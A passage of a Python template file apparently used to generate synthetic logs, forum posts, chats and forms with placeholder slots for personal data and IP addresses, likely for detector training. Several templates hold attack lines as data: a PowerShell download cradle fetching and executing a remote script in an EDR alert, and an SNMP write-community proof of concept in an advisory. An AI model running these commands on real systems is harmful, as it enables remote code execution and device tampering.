"""Templates of set K ("crowd"): (style, language, text); ids are 9000 + index.

Labelled slots: {NAME} {FIRST} {EMAIL} {PHONE} {CARD} {IBAN} {SSN} {SSNCUE} (only right after "SSN"),
{IP} (IPv4 mix) {IPW} (well-known) {IPPUB} {IPLAN} {IPPRIV} {IPCG} {IPLO} {IP6} {IPX} (v4 or v6).
Unlabelled: {VER4} (dotted-quad version) {VERW} {VER3} {OID} {CTRL} {SECT} {DATE} {TIME} {TS} {SYSTS}
{PRICE} {ORDER} {TRACK} {REF} {MAC} {HOST} {USER} {CITY} {COMPANY} {PORT} {HIPORT} {NUM} {PCT} {MS}
{CVE} {KB} {PID} {SHA} {EVENT} {YEAR} {ROOMS}. ``{SLOT:k}`` repeats the value drawn for key k.
"""

from __future__ import annotations

CROWD_TEMPLATES: list[tuple[str, str, str]] = [
    # ------------------------------------------------------------ English: Q&A sites and forums
    ("stackoverflow", "en",
     "Docker container can't resolve hostnames after upgrading to Docker Desktop {VER3}\n\n"
     "Inside the container /etc/resolv.conf says nameserver {IPLO} and every lookup times out. On the host "
     "`nslookup github.com {IPW:1}` works fine. I tried adding \"dns\": [\"{IPW:1}\", \"{IPW:2}\"] to daemon.json, "
     "no change. Engine {VER3}, compose {VER3}, Windows build {VERW}. What am I missing?"),
    ("stackoverflow", "en",
     "Why does my Flask app only answer on {IPLO}?\n\nRunning `flask run` prints `Running on http://{IPLO:1}:5000`. "
     "From my phone on the same wifi ({IPLAN}) I get connection refused. Laptop is {IPLAN}. "
     "Python {VER3}, Werkzeug {VER3}."),
    ("stackoverflow", "en",
     "SNMP walk returns nothing for OID {OID}\n\n`snmpwalk -v2c -c public {IPPRIV} {OID}` hangs, but "
     "`snmpget` of sysUpTime works. Device firmware is {VER4}, net-snmp {VER3}. Any idea?"),
    ("stackoverflow", "en",
     "Regex to validate IPv6 fails on compressed form\n\nMy pattern accepts {IP6} but rejects {IP6} and "
     "{IP6}. I'm on .NET assembly version {VER4}. Is there a library call instead of regex?"),
    ("stackoverflow", "en",
     "Postgres refuses connections from app server\n\npg_hba.conf has `host all all {IPPRIV}/32 md5` and the "
     "app server is {IPPRIV}. Log says `no pg_hba.conf entry for host \"{IPPRIV}\"`. PostgreSQL {VER3}, "
     "driver {VER4}."),
    ("reddit", "en",
     "r/homelab - Pi-hole stopped blocking after router firmware update\n\nUpdated my Archer to {VER4} "
     "(build {DATE}) and now clients get {IPLAN} AND {IPW} as DNS. Pi-hole sits at {IPLAN}. "
     "Anyone else seen this? Rolled back to {VER4} for now."),
    ("reddit", "en",
     "r/sysadmin - PSA: the {KB} update breaks RDP through our gateway\n\nAfter patching, clients on "
     "{VERW} can't reach {IPPRIV} anymore, CIS control {CTRL} still passes though lol. Uninstalling fixed it."),
    ("reddit", "en",
     "Got scammed on Marketplace, what do I do?\n\nSent {PRICE} to a guy called {NAME}, his number was {PHONE}. "
     "Now it's disconnected. I paid with my card {CARD}, bank says file a dispute. Is it worth a police report?"),
    ("reddit", "en",
     "r/techsupport - my ISP says my public IP is {IPCG}??\n\nwhatismyip shows {IPPUB} but the router WAN page "
     "shows {IPCG:1}. Router firmware {VER4}. Is this why port forwarding to {IPLAN} never works?"),
    ("reddit", "en",
     "r/networking - weird traceroute\n\n 1  {IPLAN}  1.2 ms\n 2  {IPCG}  8.9 ms\n 3  {IPPUB}  11.4 ms\n"
     " 4  {IPPUB}  14.0 ms\n 5  {IPW}  15.2 ms\n\nhop 3 and 4 are the ISP, hop 2 is CGNAT I think?"),
    ("discourse", "en",
     "Home Assistant Community - Zigbee coordinator not found\n\nHA Core {VER3}, Supervisor {VER3}, OS {VER3}. "
     "The SLZB adapter at {IPLAN}:6638 was fine until yesterday. Coordinator firmware {VER4}. Logs attached."),
    ("discourse", "en",
     "Nextcloud forum - trusted_domains keeps resetting\n\nconfig.php lists 0 => 'localhost', 1 => '{IPLAN}', "
     "2 => 'cloud.{COMPANY}.net'. Behind nginx proxy at {IPLAN}. NC {VER3}, PHP {VER3}. Reverse proxy "
     "header shows {IPPUB} as client."),
    ("discourse", "en",
     "Discourse meta - SMTP test mail bounces\n\nI set DISCOURSE_SMTP_ADDRESS to smtp.{COMPANY}.com and "
     "the notification address to {EMAIL}. Test to {EMAIL} bounces with 550. Server IP {IPPUB}."),
    ("router_forum", "en",
     "Fritz!Box 7590 with firmware {VER3} drops IPv6 every night\n\nWAN gets {IP6} then at 03:00 the prefix "
     "changes and LAN clients keep the old {IP6}. Box LAN address {IPLAN}. Provider is {COMPANY} cable."),
    ("router_forum", "en",
     "Netgear Nighthawk R7000 - stuck at V{VER4}\n\nTried to flash V{VER4} through the web UI at {IPLAN:1}, "
     "it reboots and still says V{VER4}. TFTP to {IPLAN:1} times out too. Help?"),
    ("router_forum", "en",
     "ASUS RT-AX88U Merlin {VER3} - DDNS shows wrong address\n\nDDNS updated to {IPPUB} but my real WAN is "
     "{IPPUB}. DNS servers set to {IPW} and {IPW}. LAN is {IPLAN}/24."),
    ("router_forum", "en",
     "OpenWrt {VER3} on a Linksys: after sysupgrade clients get 169 addresses\n\nLaptop shows {IPLO} "
     "instead of {IPLAN}. dnsmasq log: DHCPDISCOVER(br-lan) {MAC}. Kernel {VER3}."),
    # ------------------------------------------------------------ GitHub
    ("github_issue", "en",
     "### Bug: exporter crashes on IPv6 peers\n\n**Version:** v{VER3}\n**OS:** Ubuntu {VER3}\n\n"
     "Steps: configure peer `[{IP6}]:{PORT}` and start. Panics with `invalid address {IP6}`. IPv4 peer "
     "{IPPUB}:{PORT} works.\n\ncc @{USER}"),
    ("github_issue", "en",
     "Kubernetes node NotReady after upgrade to v{VER3}\n\n```\nkubelet[{PID}]: Failed to contact API server "
     "at https://{IPPRIV}:6443\n```\nNode InternalIP {IPPRIV}, pod CIDR starts at {IPPRIV}. containerd {VER3}."),
    ("github_issue", "en",
     "Feature request: allow custom upstream DNS\n\nRight now it's hard-coded to {IPW} and {IPW}. Our network "
     "blocks those and we have to use {IPPRIV}. Tested on release {VER4}."),
    ("github_issue", "en",
     "Proxy ignores NO_PROXY for {IPLO}\n\nNO_PROXY=localhost,{IPLO:1},.internal\nRequests to http://{IPLO:1}:"
     "{HIPORT} still go through {IPPRIV}:3128. Library {VER3}, Node {VER3}."),
    ("github_issue", "en",
     "Test fixture leaks a real card number?\n\n`tests/fixtures/payment.json` line {NUM} contains {CARD}. "
     "Looks like it passes Luhn. Can someone confirm it's a test card and not a customer's? Reported by {NAME}."),
    ("github_pr", "en",
     "## Summary\nBumps libfoo from {VER3} to {VER3} and the Windows installer to {VER4}.\n\n## Testing\n"
     "- ran integration suite against staging ({IPPRIV})\n- verified metadata endpoint {IPW} is blocked from pods\n"
     "\nFixes #{NUM}"),
    ("github_pr", "en",
     "Add allow-list for health checks\n\nLoad balancer probes come from {IPPUB} and {IPPUB}; this PR lets them "
     "through without auth. Spec section {SECT} of the design doc covers it. Reviewer: {NAME} <{EMAIL}>"),
    ("github_pr", "en",
     "Release {VER3}\n\n* Drop support for firmware older than {VER4}\n* Fix parsing of OID {OID}\n"
     "* Docs: chapter {SECT} rewritten\n* Build {VER4}\n\nNo behaviour change for users on {VER3}."),
    # ------------------------------------------------------------ chat
    ("slack", "en",
     "{FIRST}: anyone know why staging is down?\n{FIRST}: looks like {IPPRIV} stopped answering, lb still points "
     "there\n{FIRST}: I'll fail over to {IPPRIV}\n{FIRST}: ok, also {HOST} is on agent {VER4} now, fyi"),
    ("slack", "en",
     "hey, can you whitelist my home IP for the bastion? it's {IPPUB} (might change, ISP is dodgy). "
     "my phone if the 2FA prompt doesn't show: {PHONE}"),
    ("slack", "en",
     "#it-help\n{NAME}: vpn keeps giving me {IPCG} and nothing internal resolves\n{NAME}: try setting DNS to "
     "{IPPRIV} manually, client {VER4} has that bug\n{NAME}: worked, thanks!"),
    ("slack", "en",
     "#payroll - hi {FIRST}, new hire form for {NAME}: SSN {SSNCUE}, direct deposit to routing/acct on file, "
     "start date {DATE}. Cell {PHONE}. Let me know if you need anything else."),
    ("teams", "en",
     "[{TIME}] {NAME}: the printer on 3rd floor is at {IPLAN} again, someone reset it\n"
     "[{TIME}] {NAME}: firmware says {VER4}, I'll push {VER4} tonight\n[{TIME}] {NAME}: 👍"),
    ("teams", "en",
     "[{TIME}] {NAME}: customer {NAME} called from {PHONE} about a double charge on {CARD}\n"
     "[{TIME}] {NAME}: refund ticket {REF} created"),
    # ------------------------------------------------------------ incidents and ops
    ("postmortem", "en",
     "Incident {REF} - Post-mortem\n\nImpact: {PCT} of API requests failed for {NUM} minutes.\n"
     "Timeline ({DATE}, UTC):\n- {TIME} resolver {IPPRIV} stops answering\n- {TIME} pods fall back to {IPW}, "
     "blocked by egress policy\n- {TIME} rollback of CoreDNS to {VER3}\nRoot cause: config push {SHA}.\n"
     "Action items: alert on resolver health (owner {NAME})."),
    ("postmortem", "en",
     "Summary: on {DATE} an attacker from {IPPUB} brute-forced the VPN portal (FortiOS {VER3}). "
     "{NUM} accounts locked. Related advisory {CVE}. Hardening per CIS {CTRL} and {CTRL} applied; "
     "appliance now on build {VER4}."),
    ("postmortem", "en",
     "Post-incident review - email outage\n\nMX {IPPUB} was listed on a blocklist after a compromised account "
     "({EMAIL}) sent {NUM}k messages. Delisted at {TIME}. Postfix {VER3}. Contact for follow-up: {NAME}, {PHONE}."),
    ("handover", "en",
     "On-call handover {DATE}\n- db-primary failed over to {IPPRIV}, old primary {IPPRIV} still fencing\n"
     "- cert for {HOST} expires in {NUM} days (OID {OID} SAN list updated)\n- nothing else, pager quiet. {FIRST}"),
    ("handover", "en",
     "Handover notes - night shift\n* NAS {IPLAN} degraded, disk 3 replaced, DSM {VER3}\n* UPS firmware {VER4} "
     "staged, not applied\n* Vendor callback expected from {NAME} on {PHONE}"),
    ("handover", "en",
     "handover: ticket {REF} - user locked out, verified via callback {PHONE}. Event {EVENT} from source "
     "{IPPRIV}. Nothing further."),
    # ------------------------------------------------------------ security
    ("pentest", "en",
     "Finding 4.{NUM}: Cloud metadata reachable via SSRF\nSeverity: High\nThe image proxy fetches "
     "http://{IPW}/latest/meta-data/ on request. Tested from {IPPUB}. Affected host {IPPUB}. "
     "Maps to ASVS {SECT} and CIS {CTRL}."),
    ("pentest", "en",
     "Scope: {IPPUB}/29, {IPPRIV}-{IPPRIV}, vpn.{COMPANY}.com\nOut of scope: {IPPUB}\n"
     "Tester: {NAME} ({EMAIL}), emergency contact {PHONE}\nMethodology section {SECT}."),
    ("pentest", "en",
     "Nmap scan report for {IPPRIV}\nHost is up ({MS}ms latency).\nPORT     STATE SERVICE VERSION\n"
     "22/tcp   open  ssh     OpenSSH {VER3}\n443/tcp  open  https   nginx {VER3}\n"
     "161/udp  open  snmp    SNMPv2c (sysObjectID {OID})\nService Info: firmware {VER4}"),
    ("pentest", "en",
     "Finding: sensitive data in backup share\nThe file HR_export.csv on \\\\{IPPRIV}\\backup contains employee "
     "records, e.g. {NAME}, SSN {SSNCUE}, {PHONE}. Recommendation: control {CTRL}."),
    ("cve", "en",
     "{CVE}: Path traversal in web admin of XYZ NAS before {VER4}\n\nA remote attacker can read /etc/shadow. "
     "Exploitation observed from {IPPUB} and {IPPUB} since {DATE}. Fixed in {VER4}. Credit: {NAME}."),
    ("cve", "en",
     "Advisory {CVE} - Printer firmware {VER4} through {VER4} exposes SNMP write community. "
     "PoC: snmpset -v1 -c private {IPLAN} {OID} s pwned. CVSS {NUM}.{NUM}"),
    ("edr_alert", "en",
     "Alert: Suspicious PowerShell download cradle\nHost: {HOST}  User: CORP\\{USER}\nSensor version: {VER4}\n"
     "Remote: {IPPUB}:{PORT}\nLocal: {IPPRIV}\nCommand line: powershell -nop -w hidden -c iex(iwr http://{IPPUB}/a.ps1)"),
    ("edr_alert", "en",
     "Detection {REF}\nSeverity: Medium\nTactic: Discovery\nDevice: {HOST} ({IPPRIV})\n"
     "Agent: {VER4}  Policy rev {VER4}\n"
     "Network: outbound DNS to {IPW} bypassing corporate resolver {IPPRIV}"),
    ("mdm_export", "en",
     "Device Name,Serial,OS Version,Last IP,User,Email,Phone\n"
     "{FIRST}-MBP,C02{NUM}X,{VER3},{IPLAN},{NAME},{EMAIL},{PHONE}\n"
     "{FIRST}-iPhone,F{NUM}QX,{VER3},{IPCG},{NAME},{EMAIL},{PHONE}"),
    ("mdm_export", "en",
     "Intune device report\nDevice: DESKTOP-{NUM}K\nOS: Windows {VERW}\nCompany Portal: {VER4}\n"
     "Defender platform: {VER4}\nLast check-in IP: {IPPUB}\nPrimary user: {NAME} ({EMAIL})"),
    # ------------------------------------------------------------ device admin pages
    ("printer_admin", "en",
     "Device Status\nModel: LaserJet M{NUM}\nFirmware Datecode: {YEAR}0{NUM}\nFirmware Revision: {VER4}\n"
     "IPv4 Address: {IPLAN}\nSubnet Mask: 255.255.255.0\nDefault Gateway: {IPLAN}\nIPv6 Link-Local: {IP6}\n"
     "Hardware Address: {MAC}"),
    ("printer_admin", "en",
     "Network Configuration Page\nHost Name: NPI{NUM}A\nTCP/IP Status: Ready\nIP Address: {IPPRIV}\n"
     "DNS Server: {IPPRIV}\nJetdirect firmware: {VER4}\nSNMP: v1/v2 read-only, sysObjectID {OID}"),
    ("iot_admin", "en",
     "Camera Settings > Network\nIP: {IPLAN}\nGateway: {IPLAN}\nPrimary DNS: {IPW}\nNTP server: pool.ntp.org\n"
     "Firmware: V{VER4} build {DATE}\nONVIF: {VER3}"),
    ("nas_admin", "en",
     "Synology DSM {VER3} - Log Center\n{TS} Connection User [{USER}] from [{IPPUB}] failed to sign in via "
     "[SSH] due to authorization failure.\n{TS} System IP address [{IPPUB}] of [{USER}] has been blocked by "
     "auto block.\n{TS} Package [Hyper Backup] updated to version [{VER4}]."),
    ("nas_admin", "en",
     "QNAP QTS notification\nServer: NAS{NUM}\nIP: {IPLAN}\nMessage: [Firmware Update] Firmware {VERW} "
     "available. Current {VER3}. Admin contact {EMAIL}."),
    # ------------------------------------------------------------ logs
    ("vpn_log", "en",
     "{TS} OpenVPN {VER3} x86_64-pc-linux-gnu\n{TS} TCP/UDP: Preserving recently used remote address: "
     "[AF_INET]{IPPUB}:{PORT}\n{TS} Peer Connection Initiated with [AF_INET]{IPPUB}:{PORT}\n"
     "{TS} /sbin/ip addr add dev tun0 {IPPRIV}/24\n{TS} Initialization Sequence Completed"),
    ("vpn_log", "en",
     "[WireGuard] {TS} Sending handshake initiation to peer 1 ({IPPUB}:51820)\n"
     "[WireGuard] {TS} Received handshake response\n[Tailscale] {TS} magicsock: endpoints changed: "
     "{IPPUB}:41641 (stun), {IPLAN}:41641 (local), {IPCG} (tailnet)"),
    ("vpn_log", "en",
     "GlobalProtect {VER4} PanGPS.log\n({PID})({TIME}) Debug: gateway {IPPUB} selected, latency {MS} ms\n"
     "({PID})({TIME}) Debug: assigned address {IPPRIV}, DNS {IPPRIV}\n({PID})({TIME}) Debug: portal "
     "config version {VER4}"),
    ("mail_log", "en",
     "{SYSTS} mx1 postfix/smtpd[{PID}]: connect from unknown[{IPPUB}]\n"
     "{SYSTS} mx1 postfix/smtpd[{PID}]: NOQUEUE: reject: RCPT from unknown[{IPPUB}]: 554 5.7.1 Service "
     "unavailable; Client host [{IPPUB}] blocked; from=<{EMAIL}> to=<{EMAIL}> proto=ESMTP"),
    ("mail_log", "en",
     "Received: from mail-{NUM}.{COMPANY}.com ({IPPUB}) by mx.example.net with ESMTPS id {SHA}\n"
     "  for <{EMAIL}>; {DATE}\nX-Originating-IP: [{IPPRIV}]\nX-Mailer: Outlook {VERW}"),
    ("mail_log", "en",
     "{TS} dovecot: imap-login: Login: user=<{EMAIL}>, method=PLAIN, rip={IPPUB}, lip={IPPRIV}, "
     "mpid={PID}, TLS"),
    ("win_event", "en",
     "Log Name: Security\nSource: Microsoft-Windows-Security-Auditing\nEvent ID: 4625\nTask Category: Logon\n"
     "Account Name: {USER}\nWorkstation Name: {HOST}\nSource Network Address: {IPPUB}\nSource Port: {HIPORT}\n"
     "Logon Process: NtLmSsp"),
    ("win_event", "en",
     "Level,Date and Time,Source,Event ID,Task Category\nInformation,{TS},Microsoft-Windows-Security-Auditing,"
     "{EVENT},Logon,\"An account was successfully logged on. Source Network Address: {IPPRIV}\"\nWarning,{TS},"
     "Time-Service,36,None,\"NtpClient was unable to set a domain peer; falling back to {IPPUB}\""),
    ("win_event", "en",
     "Event 5156, Windows Filtering Platform: The Windows Filtering Platform has permitted a connection.\n"
     "Application: \\device\\harddiskvolume3\\program files\\agent\\agent.exe (version {VER4})\n"
     "Source Address: {IPPRIV}  Source Port: {HIPORT}\nDestination Address: {IPX}  Destination Port: {PORT}"),
    ("powershell", "en",
     "PS C:\\> Get-NetIPAddress -AddressFamily IPv4 | ft IPAddress,InterfaceAlias\n\nIPAddress       InterfaceAlias\n"
     "---------       --------------\n{IPLAN}    Wi-Fi\n{IPLO}  Ethernet\n{IPLO}       Loopback Pseudo-Interface 1\n\n"
     "PS C:\\> $PSVersionTable.PSVersion\n\nMajor  Minor  Build  Revision\n5      1      19041  {NUM}"),
    ("powershell", "en",
     "PS> Test-NetConnection {IPW} -Port 53\n\nComputerName     : {IPW:1}\nRemoteAddress    : {IPW:1}\n"
     "RemotePort       : 53\nInterfaceAlias   : Ethernet\nSourceAddress    : {IPPRIV}\nTcpTestSucceeded : True"),
    ("powershell", "en",
     "PS> Get-Module -ListAvailable Az.Accounts, PSReadLine\n\nModuleType Version    Name\n---------- -------    ----\n"
     "Script     {VER3}     Az.Accounts\nScript     {VER4}    PSReadLine\n\n"
     "PS> Resolve-DnsName intranet -Server {IPPRIV}"),
    ("journalctl", "en",
     "{SYSTS} web-01 sshd[{PID}]: Failed password for invalid user {USER} from {IPPUB} port {HIPORT} ssh2\n"
     "{SYSTS} web-01 sshd[{PID}]: Failed password for invalid user {USER} from {IPPUB} port {HIPORT} ssh2\n"
     "{SYSTS} web-01 sshd[{PID}]: Accepted publickey for deploy from {IPPRIV} port {HIPORT} ssh2"),
    ("journalctl", "en",
     "{SYSTS} host systemd-resolved[{PID}]: Using degraded feature set UDP instead of UDP+EDNS0 for DNS server "
     "{IPW}.\n{SYSTS} host systemd-resolved[{PID}]: Switching to fallback DNS server {IP6}.\n"
     "{SYSTS} host kernel: Linux version {VER3}-{NUM}-generic"),
    ("journalctl", "en",
     "{SYSTS} pve kernel: vmbr0: port 2(tap{NUM}i0) entered forwarding state\n{SYSTS} pve dnsmasq-dhcp[{PID}]: "
     "DHCPACK(vmbr0) {IPLAN} {MAC} vm{NUM}\n{SYSTS} pve pveproxy[{PID}]: worker started (pve-manager/{VER3})"),
    ("tcpdump", "en",
     "{TIME}.{PID} IP {IPPRIV}.{HIPORT} > {IPW}.53: {PID}+ A? update.vendor.com. ({NUM})\n"
     "{TIME}.{PID} IP {IPW}.53 > {IPPRIV}.{HIPORT}: {PID} 1/0/0 A {IPPUB} ({NUM})"),
    ("tcpdump", "en",
     "{TIME}.{PID} IP6 {IP6}.{HIPORT} > {IP6}.443: Flags [S], seq {PID}, win 64800, length 0\n"
     "{TIME}.{PID} IP {IPLAN}.{HIPORT} > {IPPUB}.443: Flags [P.], seq 1:518, ack 1, win 502, length 517"),
    ("wireshark", "en",
     "No.  Time      Source          Destination     Protocol Length Info\n"
     "{NUM}   {MS}.{NUM}  {IPLAN}   {IPLAN}   DHCP  342  DHCP Request - Transaction ID 0x{SHA}\n"
     "{NUM}   {MS}.{NUM}  {IPLAN}   {IPW}   DNS   74   Standard query A time.windows.com\n"
     "{NUM}   {MS}.{NUM}  {IPLAN}   {IPLAN}   SNMP  90   get-request {OID}"),
    ("nginx_log", "en",
     "{IPPUB} - - [{DATE}:{TIME} +0000] \"GET /api/v2/health HTTP/1.1\" 200 {NUM} \"-\" \"kube-probe/{VER3}\"\n"
     "{IP6} - - [{DATE}:{TIME} +0000] \"POST /login HTTP/2.0\" 401 {NUM} \"-\" \"Mozilla/5.0 Chrome/{VERW}\""),
    ("config", "en",
     "# /etc/netplan/01-netcfg.yaml\nnetwork:\n  version: 2\n  ethernets:\n    eno1:\n      addresses: [{IPPRIV}/24]\n"
     "      routes:\n        - to: default\n          via: {IPPRIV}\n"
     "      nameservers:\n        addresses: [{IPW}, {IPW}]"),
    ("config", "en",
     "[Interface]\nPrivateKey = <redacted>\nAddress = {IPPRIV}/32, {IP6}/128\nDNS = {IPW}\n\n[Peer]\n"
     "Endpoint = {IPPUB}:51820\nAllowedIPs = 0.0.0.0/0, ::/0\n# client app {VER3}"),
    ("cert_dump", "en",
     "X509v3 extensions:\n    X509v3 Subject Alternative Name: ({OID})\n        DNS:{HOST}, IP Address:{IPPRIV}, "
     "IP Address:{IP6}\n    X509v3 Basic Constraints: ({OID}) critical\n        CA:FALSE\n"
     "    Authority Information Access: ({OID})\n Signature Algorithm: sha256WithRSAEncryption ({OID})"),
    # ------------------------------------------------------------ private life in English
    ("newsletter", "en",
     "Oakwood Primary - Parents' Newsletter, {DATE}\n\nDear families, the school office number has changed to "
     "{PHONE}. Questions about the trip to {CITY} go to Mrs {NAME} at {EMAIL}. Dinner money ({PRICE}) is "
     "due by Friday. See section {SECT} of the handbook for the uniform policy."),
    ("newsletter", "en",
     "PTA update: thanks to everyone who volunteered! Our treasurer {NAME} ({PHONE}) asks that donations go "
     "to the PTA account {IBAN}. Next meeting {DATE} in the hall."),
    ("rental", "en",
     "Hi {FIRST},\n\nThanks for viewing the {ROOMS}-bed flat in {CITY}. Rent is {PRICE} pcm, deposit five weeks. "
     "Please pay the holding deposit to {IBAN} with your surname as reference. Any questions, "
     "call me on {PHONE}.\n\n{NAME}"),
    ("rental", "en",
     "Rental application\nApplicant: {NAME}\nEmail: {EMAIL}\nPhone: {PHONE}\nSSN: {SSNCUE}\nCurrent landlord: "
     "{NAME}, {PHONE}\nMonthly income: {PRICE}\nMove-in: {DATE}"),
    ("real_estate", "en",
     "New listing: {ROOMS} bed, {NUM} bath in {CITY}, asking {PRICE}k. Open house {DATE}. Agent {NAME}, "
     "direct {PHONE}, {EMAIL}. Ref {ORDER}."),
    ("travel", "en",
     "Booking confirmation {REF}\nPassenger: {NAME}\nFlight BA{NUM} {CITY} → {CITY}, {DATE} {TIME}\n"
     "Paid with card ending in the number on file, total {PRICE}\nContact: {EMAIL}, {PHONE}"),
    ("travel", "en",
     "Your hotel reservation is confirmed. Guest: {NAME}. Check-in {DATE}. Guarantee card: {CARD}. "
     "Free wifi: connect and open {IPLAN} if the login page doesn't pop up."),
    ("review", "en",
     "★☆☆☆☆ Router keeps rebooting. Came with firmware {VER4}, the update to {VER4} made it worse. Support "
     "told me to factory reset and log in at {IPLAN} again. Three weeks, order {ORDER}, still no refund."),
    ("review", "en",
     "5 stars. Technician {FIRST} set up the mesh in an hour, even moved my NAS to a fixed {IPLAN}. "
     "Paid {PRICE}. Would book again."),
    ("job_application", "en",
     "Dear Hiring Manager,\n\nI am applying for the Network Engineer role (ref {REF}). I hold CCNP and have "
     "migrated {NUM} sites from IOS {VER3} to {VER3}. My CV is attached.\n\nBest regards,\n{NAME}\n{PHONE} | {EMAIL}"),
    ("job_application", "en",
     "Candidate profile\nName: {NAME}\nEmail: {EMAIL}\nMobile: {PHONE}\nSSN (for background check): {SSN}\n"
     "Available from {DATE}"),
    # ------------------------------------------------------------ finance and forms
    ("payment", "en",
     "Hi, please charge my card for the deposit: {CARD}, exp {NUM}/{NUM}. Name on card {NAME}. Thanks!"),
    ("payment", "en",
     "Invoice {ORDER} - {PRICE}\nPay by bank transfer to IBAN {IBAN} (BIC on invoice) or by card. "
     "Accounts: {NAME}, {EMAIL}"),
    ("payment", "en",
     "Refund request: charged twice for order {ORDER}. Card used: {CARD}. Second card on the account "
     "{CARD} was not involved. Call me at {PHONE}."),
    ("hr_form", "en",
     "W-4 / onboarding checklist\nEmployee: {NAME}\nSocial Security Number: {SSN}\nHome phone: {PHONE}\n"
     "Personal email: {EMAIL}\nDirect deposit: see attached voided check"),
    ("hr_form", "en",
     "Benefits enrollment\nDependent: {NAME}, SSN {SSNCUE}\nDependent: {NAME}, SSN {SSNCUE}\nPlan: PPO {YEAR}"),
    ("tax", "en",
     "Taxpayer: {NAME}\nSSN {SSNCUE}   Spouse SSN {SSNCUE}\nRefund direct deposit; preparer phone {PHONE}"),
    ("support_chat", "en",
     "Agent: For security, can you confirm the last four of your SSN and your date of birth?\n"
     "Customer: full one is {SSN}, DOB {DATE}\nAgent: Please don't share the full number here. I've masked it."),
    ("support_chat", "en",
     "Customer: my card {CARD} was declined at checkout\nAgent: I see attempts from {IPPUB} and {IPPUB}. "
     "Was that you?\nCustomer: the first one yes, I'm on mobile data"),
    ("crm_note", "en",
     "Call note {DATE}: {NAME} ({PHONE}) wants to change bank details to {IBAN}. Verified via callback. "
     "Old IBAN {IBAN} closed."),
    ("crm_note", "en",
     "Lead: {NAME}, {COMPANY} Ltd, {EMAIL}, {PHONE}. Interested in plan B, budget {PRICE}/mo."),
    ("sms", "en", "hey it's {FIRST}, new number {PHONE}. btw send the money to {IBAN} pls x"),
    ("sms", "en", "Your code is {NUM}{NUM}{NUM}. If this wasn't you call {PHONE}."),
    ("email", "en",
     "Hi {FIRST},\n\nAs discussed, our wire details: beneficiary {NAME}, IBAN {IBAN}. Please send proof of "
     "payment to {EMAIL}.\n\nKind regards"),
    ("email", "en",
     "From: {NAME} <{EMAIL}>\nTo: {EMAIL}\nSubject: SSN correction\n\nHR has my SSN as {SSN}, it should be {SSN}. "
     "Can you fix before payroll?"),
    ("email", "en",
     "Hello,\nPlease update my details: SSN {SSNCUE}, card for expenses {CARD}, phone {PHONE}.\n{NAME}"),
    ("email", "en",
     "Subject: IT onboarding\n\nWelcome {FIRST}! Your laptop has agent {VER4} installed. VPN gateway is {IPPUB}, "
     "internal DNS {IPPRIV}. Questions: {EMAIL}."),
    ("bank_chat", "en",
     "Fraud team: we blocked card {CARD} after a sign-in from {IPPUB}. To reissue, please verify SSN {SSNCUE} "
     "and the mobile number on file ({PHONE})."),
    ("loan_form", "en",
     "Co-applicant: {NAME}\nSSN: {SSN}\nEmployer phone: {PHONE}\nCard for application fee: {CARD}\nSigned {DATE}"),
    ("reddit", "en",
     "r/personalfinance - got a letter saying my SSN {SSN} was used to open a store card ({CARD}) I never applied "
     "for. Froze my credit already. What else should I do?"),
    ("medical_intake", "en",
     "Patient intake\nName: {NAME}\nDOB: {DATE}\nSSN {SSNCUE}\nInsurance hotline: {PHONE}\nCard on file: {CARD}"),
    ("github_issue", "en",
     "Seed script writes realistic SSNs\n\n`make seed` puts values like {SSN} and {SSN} into the staging DB at "
     "{IPPRIV}. Even if fake, our DLP flags them. Could we use 000-prefixed numbers instead? (v{VER3})"),
    # ------------------------------------------------------------ English, PII-free
    ("release_notes", "en",
     "Firmware {VER4} release notes ({DATE})\n- Fixes Wi-Fi drop after {NUM} hours\n- Updates OpenSSL to {VER3}\n"
     "- Bootloader {VER4}\nUpgrade path: {VER4} → {VER4}. Do not downgrade below {VER4}."),
    ("release_notes", "en",
     "What's new in {VER3}\n* Minimum agent version is now {VER4}\n* Windows {VERW} supported\n"
     "* Fixed crash in parser (see {CVE})\nBuild {VER4}, signed {DATE}."),
    ("audit", "en",
     "CIS Benchmark results - {HOST}\n{CTRL} Ensure mounting of cramfs is disabled ........ PASS\n"
     "{CTRL} Ensure /tmp is a separate partition ........ FAIL\n{CTRL} Ensure SSH MaxAuthTries is 4 or less ... PASS\n"
     "{CTRL} Ensure audit logs are not deleted ......... PASS\nScore: {PCT}"),
    ("audit", "en",
     "Statement of Applicability (excerpt)\nControl {CTRL} - Logging: implemented\nControl {CTRL} - Clock "
     "synchronisation: implemented\nControl {CTRL} - Secure development: partial\nSee policy section {SECT}."),
    ("docs", "en",
     "Chapter {SECT}: Configuring SNMP\nThe agent answers on the OIDs under {OID}. Section {SECT} explains "
     "traps. This guide applies to firmware {VER4} and later."),
    ("order", "en",
     "Your order {ORDER} has shipped! Tracking {TRACK}. Total {PRICE}. Estimated delivery {DATE}. "
     "Item: USB-C dock (firmware {VER4})."),
    ("order", "en",
     "Order {ORDER} placed {DATE} {TIME}\nSubtotal {PRICE}\nShipping {PRICE}\nTracking: {TRACK}\nReturn ref {REF}"),
    ("changelog", "en",
     "## [{VER3}] - {DATE}\n### Fixed\n- Handle driver {VER4} reporting version as {VERW}\n"
     "- Parse section ids like {SECT} correctly\n### Changed\n- Bumped dependency to {VER3}"),
    ("stackoverflow", "en",
     "Comparing version strings like {VER4} and {VER4} in Python\n\n`packaging.version.parse` handles {VER3} "
     "but I also get {VERW} from the Windows API. Is there a clean way?"),
    ("inventory", "en",
     "Asset,Model,Firmware,Location\nSW-{NUM},Catalyst 9300,{VER3},Rack {NUM}\nAP-{NUM},Aruba 515,{VER4},Floor {NUM}\n"
     "UPS-{NUM},Smart-UPS,{VER4},Server room\nPRN-{NUM},MFC-L8900,{VER4},Reception"),
    ("ticket", "en",
     "{REF}: Update BIOS on lab machines to {VER4} (currently {VER4}). Reboot window {DATE} {TIME}. "
     "No user impact expected. Ref. standard {CTRL}."),
    ("forum", "en",
     "Which driver for the Intel AX211? Windows Update gives {VERW}, Intel's site has {VERW}, and the OEM "
     "page still lists {VER4}. Bluetooth is on {VER4}."),
    # ------------------------------------------------------------ German
    ("forum", "de",
     "Hallo zusammen, seit dem Update der FRITZ!Box auf {VER3} bekommt mein NAS nicht mehr die {IPLAN}, "
     "sondern irgendwas mit {IPLO}. DNS steht auf {IPW}. NAS-Firmware ist {VER4}. Jemand eine Idee?"),
    ("email", "de",
     "Sehr geehrte Frau {NAME},\n\nbitte überweisen Sie die Kaution von {PRICE} bis zum {DATE} auf folgendes "
